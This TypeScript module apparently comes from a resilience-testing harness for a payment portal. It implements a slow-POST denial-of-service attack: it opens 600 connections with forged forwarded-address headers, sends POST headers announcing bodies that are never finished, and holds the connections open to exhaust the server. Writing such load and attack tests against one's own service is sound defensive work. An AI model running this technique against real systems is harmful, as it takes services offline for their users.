import { ADDRESSES } from '#contract/addresses.ts'
import type { Attack } from '../attack.ts'
import { forwardedLine, hangUp, openLines } from '../raw-lines.ts'

const LINES = 600
/** As a wide attack does it: many hosts, none with many lines. */
const LINES_EACH = 20

/** Bodies that are announced, begun and never finished. */
export const slowBodies: Attack = {
  name: 'half-sent bodies',
  loses: 'some hundred idle connections shut the portal for everybody',
  async run({ target, strangers, from, endure }) {
    const { host } = new URL(target.portalUrl)
    const addresses = Array.from({ length: LINES }, (_, n) =>
      from(Math.floor(n / LINES_EACH), 1 + (n % LINES_EACH)),
    )
    const opened = await openLines(target, addresses)
    for (const [n, socket] of opened.entries()) {
      const { path } = n % 2 ? ADDRESSES.initiate : { path: '/prepaid-recharge' }
      const type = n % 2 ? 'application/json' : 'application/x-www-form-urlencoded'
      socket.write(
        `POST ${path} HTTP/1.1\r\nhost: ${host}\r\norigin: ${target.portalUrl}\r\ncontent-type: ${type}\r\n` +
          `${forwardedLine(target, addresses[n] ?? '')}content-length: 1000\r\n\r\n{`,
      )
    }
    strangers.count('half-sent', opened.length)
    if (opened.length < LINES) strangers.count('not let in', LINES - opened.length)
    await endure()
    hangUp(opened)
    return []
  },
}
